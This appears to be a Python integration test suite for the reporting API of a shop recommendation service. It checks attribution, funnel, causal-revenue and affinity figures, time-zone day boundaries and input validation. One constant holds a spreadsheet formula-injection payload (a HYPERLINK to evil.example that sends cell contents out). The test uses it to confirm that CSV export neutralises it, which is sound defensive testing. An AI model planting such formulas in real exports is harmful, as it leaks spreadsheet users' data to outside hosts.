"""Reports through the real binary: visitors see, click and order, money is given back, and every report says the figures known beforehand."""
import csv, datetime, io
import lib
from fake_shop import send_webhook
from test_people import local, running

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"lamp")'
VISITORS = 60


def noon_zone():
    """A time zone in which no day ends soon: it is about noon there."""
    hours = 12 - datetime.datetime.now(datetime.timezone.utc).hour
    return f"{'-' if hours < 0 else '+'}{abs(hours):02}:00", datetime.timezone(datetime.timedelta(hours=hours))


def report(p, name, **query):
    status, answer = p.ask("GET", f"/api/v1/reports/{name}?" + "&".join(f"{k}={v}" for k, v in query.items()))
    assert status == 200, answer
    return answer


def as_csv(p, name, **query):
    query = {**query, "format": "csv"}
    status, headers, body = p.server.request("GET", f"/api/v1/reports/{name}?" + "&".join(f"{k}={v}" for k, v in query.items()),
                                             headers=lib.bearer(p.key["secret"]))
    headers = {k.lower(): v for k, v in dict(headers).items()}
    assert status == 200 and headers["content-type"].startswith("text/csv") and ".csv" in headers["content-disposition"], headers
    text = body.decode() if isinstance(body, bytes) else body
    return list(csv.DictReader(io.StringIO(text, newline="")))


def rename(p, product_id, name):
    product = p.shop.rows["products"][int(product_id)]
    product.update(name=name, date_modified_gmt=local(2 / 86400), date_modified=local(2 / 86400))
    url, secret = p.hook["product.updated"]
    assert send_webhook(url, "product.updated", product, secret)[0] == 200


def place(p, order_id, visitor, product, total):
    """Lines of 10.71 and of the rest, shipping included; the first one is of the product."""
    billing = {"email": f"{visitor}@people.test", "first_name": "x", "last_name": "y", "country": "RO"}
    return p.order(order_id, product, total=total, billing=billing, shipping={}, customer_note="", transaction_id="",
                   meta_data=[{"id": 1, "key": "_vitrine_visitor", "value": visitor}])


class Story:
    """Everybody asks at the first page; those who get an answer see it, every second one clicks the first product, every fourth orders it
    for 30.00. Of the held-out every fourth orders too, for 20.00. One order of each kind is given back in part."""

    def __init__(self, p):
        self.p, self.seen, self.held, self.items, self.clicked, self.ordered, self.held_ordered = p, [], [], {}, [], [], []
        for i in range(VISITORS):
            self.ask(f"v-{i}")
        lib.wait_until(lambda: lib.sql(p.data, "SELECT count(*) FROM exposure_row") == [(VISITORS,)])
        for i, visitor in enumerate(self.seen):
            self.follow(i, visitor)
        for i, visitor in enumerate(self.held):
            self.stay(i, visitor)

    def ask(self, visitor):
        status, answer = self.p.post("/api/v1/recommendations", {"visitor_id": visitor, "placement": "home", "n": 4})
        assert status == 200, answer
        held = answer.get("held_out", False)
        (self.held if held else self.seen).append(visitor)
        assert held or len(answer["items"]) == 4
        self.items[visitor] = (answer["rec_id"], [(i["product_id"], i["source"]) for i in answer["items"]])

    def tell(self, visitor, *events):
        status, answer = self.p.post("/api/v1/events/track", {"visitor_id": visitor, "events": list(events)}, "public")
        assert status == 200 and answer["accepted"] == len(events), answer

    def follow(self, i, visitor):
        rec, items = self.items[visitor]
        first = items[0][0]
        shown = {"type": "impression", "rec_id": rec, "items": [x[0] for x in items]}
        self.tell(visitor, shown, shown)                                # told twice: counts once
        if i % 2 == 0:
            self.clicked.append(visitor)
            self.tell(visitor, {"type": "click", "rec_id": rec, "product_id": first}, {"type": "cart_add", "product_id": first})
        if i % 4 == 0:
            self.ordered.append(visitor)
            place(self.p, 88000 + i, visitor, first, "30.00")
        if i == 1:
            place(self.p, 87001, visitor, items[1][0], "15.00")         # seen, not clicked: an assist

    def stay(self, i, visitor):
        self.tell(visitor, {"type": "view", "product_id": self.items[self.seen[0]][1][0][0]})
        if i % 4 == 0:
            self.held_ordered.append(visitor)
            place(self.p, 89000 + i, visitor, self.items[self.seen[0]][1][0][0], "20.00")


def test_every_report_says_the_figures_known_beforehand():
    with running() as p:
        p.server.stop()
        name, zone = noon_zone()
        lib.run("stores", "settings", p.name, "holdout_percent=50", f"time_zone={name}", "--data", p.data)
        p.server = lib.Server(p.data, port=p.server.port)
        day = datetime.datetime.now(zone).date()
        base_orders = report(p, "summary", **{"from": day, "to": day})["total"]
        s = Story(p)
        seen, held, clicked, ordered = len(s.seen), len(s.held), len(s.clicked), len(s.ordered)
        assert seen > 15 and held > 15 and len(s.held_ordered) > 3
        first = s.items[s.ordered[0]][1][0][0]
        order = p.shop.rows["orders"][88000]
        p.change(order, refunds=[{"id": 70001, "reason": "", "total": "-15.00"}])           # half of it, not said for what
        gone = p.shop.rows["orders"][88004]
        p.change(gone, status="cancelled")
        rename(p, first, EVIL)
        paid = ordered - 1                                              # one was cancelled
        one = 10.71                                                     # value of the line that followed
        click_money = round(one * paid - 5.36, 2)                       # half of 10.71 went back
        span = {"from": day, "to": day}

        total = report(p, "performance", **span)["total"]
        assert total["impressions"] == 4 * seen and total["clicks"] == clicked and total["carts"] == clicked, (total, seen, clicked)
        assert total["click_rate"] == round(clicked / (4 * seen), 6) and total["click_rate_low"] < total["click_rate"] < total["click_rate_high"]
        assert total["purchases"] == total["orders"] == paid and total["revenue"] == click_money, (total, paid, click_money)
        assert total["refunded"] == round(5.36 + one, 2), total

        rows = report(p, "performance", by="placement,source", **span)["rows"]
        assert {r["placement"] for r in rows} == {"home"} and sum(r["impressions"] for r in rows) == 4 * seen
        by_source = {}
        for visitor in s.clicked:
            source = s.items[visitor][1][0][1]
            by_source[source] = by_source.get(source, 0) + 1
        assert {r["source"]: r["clicks"] for r in rows if r["clicks"]} == by_source
        rows = report(p, "performance", by="product", **span)["rows"]
        for r in rows:
            assert r["impressions"] == sum(r["product"] == x[0] for v in s.seen for x in s.items[v][1]), r

        told = report(p, "attributed", **span)["total"]
        assert told["click_revenue"] == click_money and told["click_purchases"] == paid
        assert told["view_purchases"] == told["view_orders"] == 1 and told["view_revenue"] == one, told

        funnel = report(p, "funnel", **span)["total"]
        assert [funnel[k] for k in ("impressions", "clicks", "carts", "purchases")] == [4 * seen, clicked, clicked, paid]
        assert funnel["cart_of_clicks"] == 1 and funnel["purchase_of_carts"] == round(paid / clicked, 6)

        caused = report(p, "caused", **span)["total"]
        assert (caused["visitors"], caused["visitors_held_out"]) == (seen, held), caused
        assert (caused["buyers"], caused["buyers_held_out"]) == (paid + 1, len(s.held_ordered)) and caused["mixed"] == 0
        money = 30 * paid - 15 + 15
        held_money = 20 * len(s.held_ordered)
        assert (caused["revenue"], caused["revenue_held_out"]) == (money, held_money), caused
        difference = money / seen - held_money / held
        assert caused["state"] == "few_buyers" and abs(caused["difference"] - difference) < 1e-5, caused
        assert abs(caused["caused_revenue"] - difference * seen) < 1e-3 and caused["caused_low"] < caused["caused_revenue"] < caused["caused_high"]
        assert caused["once_low"] > caused["caused_low"] and caused["once_high"] < caused["caused_high"]
        assert caused["click_revenue"] == click_money and caused["view_revenue"] == one
        last = report(p, "caused", by="day", **{"from": day - datetime.timedelta(days=2), "to": day})["rows"]
        assert len(last) == 3 and last[0]["visitors"] == 0 and last[2]["revenue"] == money and last[2]["caused_low"] == caused["caused_low"]
        assert sum(r["visitors"] for r in report(p, "caused", by="placement", **span)["rows"]) == seen

        summary = report(p, "summary", **span)["total"]
        assert summary["orders"] - base_orders["orders"] == paid + 1 + len(s.held_ordered)
        assert round(summary["revenue"] - base_orders["revenue"], 2) == money + held_money
        assert summary["followed_orders"] == paid and summary["clicks"] == clicked and summary["click_revenue"] == click_money
        assert summary["visitors"] == seen + held and summary["caused_revenue"] == caused["caused_revenue"]
        by_day = report(p, "summary", by="day", **span)["rows"]
        assert len(by_day) == 1 and by_day[0]["day"] == str(day) and by_day[0]["orders"] == summary["orders"]

        best = report(p, "performers", **span)["rows"]
        assert [r["rank"] for r in best if r["list"] == "best"] == list(range(1, 1 + len([r for r in best if r["list"] == "best"])))
        assert best[0]["revenue"] == max(r["revenue"] for r in rows) and any(r["list"] == "worst" for r in best)
        worst = [r for r in best if r["list"] == "worst"]
        assert worst == sorted(worst, key=lambda r: r["click_rate_high"]) and not {r["product"] for r in worst} & {r["product"] for r in best if r["list"] == "best"}
        the_command_says_the_same(p, span, caused)
        hostile_names_stay_texts(p, span, first)
        wrong_questions_are_answered_with_what_would_be_right(p)


def the_command_says_the_same(p, span, caused):
    words = ["--from", str(span["from"]), "--to", str(span["to"]), "--data", p.data]
    assert lib.run_json("report", p.name, "caused", *words)["total"] == caused
    rows = list(csv.DictReader(io.StringIO(lib.run("report", "caused", "--csv", *words).stdout, newline="")))
    assert len(rows) == 1 and float(rows[0]["revenue"]) == caused["revenue"] and rows[0]["state"] == "few_buyers"
    assert "the figures will still move" in lib.run("report", p.name, "caused", *words).stdout
    shown = lib.run("report", p.name, "performance", "--by", "product", *words).stdout
    assert "impressions" in shown.splitlines()[0] and "HYPERLINK" in shown
    assert lib.run("report", p.name, "nothing", *words, ok=False).returncode == 1


def hostile_names_stay_texts(p, span, product):
    answer = [r for r in report(p, "performance", by="product", **span)["rows"] if r["product"] == product]
    assert answer[0]["name"] == EVIL
    row = [r for r in as_csv(p, "performance", by="product", **span) if r["product"] == product][0]
    assert row["name"] == "'" + EVIL and row["revenue"] == f'{answer[0]["revenue"]:.2f}', row
    rename(p, product, 'A "b", c;\n\td')
    row = [r for r in as_csv(p, "performance", by="day,product", **span) if r["product"] == product][0]
    assert row["name"].split() == ['A', '"b",', 'c;', 'd'] and row["day"] == str(span["from"]), row


def wrong_questions_are_answered_with_what_would_be_right(p):
    for path, status, field in (("caused?by=product", 400, "by"), ("caused?by=day,device", 400, "by"), ("performance?by=moon", 400, "by"),
                                ("performance?from=2026-13-01", 400, "from"), ("performance?from=2026-02-02&to=2026-02-01", 400, "to"),
                                ("performance?from=2019-01-01&to=2026-01-01", 400, "to"), ("performance?sort=luck", 400, "sort"),
                                ("performance?limit=0", 400, "limit"), ("performance?limit=100000", 400, "limit"), ("affinity?by=day", 400, "by"),
                                ("performance?format=pdf", 400, "format"), ("moon", 404, "report"), ("performance?wrong=1", 400, "wrong")):
        got, answer = p.ask("GET", "/api/v1/reports/" + path)
        assert got == status and answer["error"]["field"] == field, (path, got, answer)
    assert p.ask("GET", "/api/v1/reports/summary", "public")[0] == 403


def test_days_are_the_shop_s_own_where_summer_time_begins_and_ends():
    with running() as p:
        moments = {"2026-03-28T21:59:59": "2026-03-28", "2026-03-28T22:00:00": "2026-03-29", "2026-03-29T20:59:59": "2026-03-29",
                   "2026-03-29T21:00:00": "2026-03-30", "2025-10-25T20:59:59": "2025-10-25", "2025-10-25T21:00:00": "2025-10-26",
                   "2025-10-26T21:59:59": "2025-10-26", "2025-10-26T22:00:00": "2025-10-27"}
        spans = (("2026-03-28", "2026-03-30"), ("2025-10-25", "2025-10-27"))
        days = lambda: {r["day"]: r["orders"] for a, b in spans for r in report(p, "summary", by="day", **{"from": a, "to": b})["rows"]}
        before = days()
        assert len(before) == 6
        for i, moment in enumerate(moments):
            p.order(77100 + i, "1", date_created_gmt=moment, date_created=moment, total="10.00")
        expected = {d: before[d] + sum(v == d for v in moments.values()) for d in before}
        assert days() == expected, (days(), expected)
        spring = report(p, "summary", **{"from": "2026-03-29", "to": "2026-03-29"})["total"]
        assert spring["orders"] == expected["2026-03-29"]


def test_what_is_bought_together_is_a_map():
    with running() as p:
        answer = report(p, "affinity", **{"from": "2025-11-22", "to": "2026-11-21", "min_orders": 1, "limit": 5000})
        baskets = []
        for o in p.shop.rows["orders"].values():
            if o["status"] not in ("cancelled", "failed", "refunded", "pending", "trash", "checkout-draft"):
                baskets.append(({str(x["product_id"]) for x in o["line_items"]}, o["date_created_gmt"]))
        begin, end = ((datetime.datetime.fromisoformat(day) - datetime.timedelta(hours=2)).isoformat() for day in ("2025-11-22", "2026-11-22"))
        baskets = [b for b, at in baskets if begin <= at < end and b]
        pairs = {}
        for b in baskets:
            for x in b:
                for y in b:
                    if x < y:
                        pairs[x, y] = pairs.get((x, y), 0) + 1
        assert {(r["product_a"], r["product_b"]): r["orders"] for r in answer["rows"]} == pairs and pairs, (answer["rows"][:3], len(pairs))
        r = answer["rows"][0]
        a, b = (sum(r[k] in basket for basket in baskets) for k in ("product_a", "product_b"))
        assert (r["orders_a"], r["orders_b"]) == (a, b) and abs(r["lift"] - r["orders"] * len(baskets) / (a * b)) < 1e-5
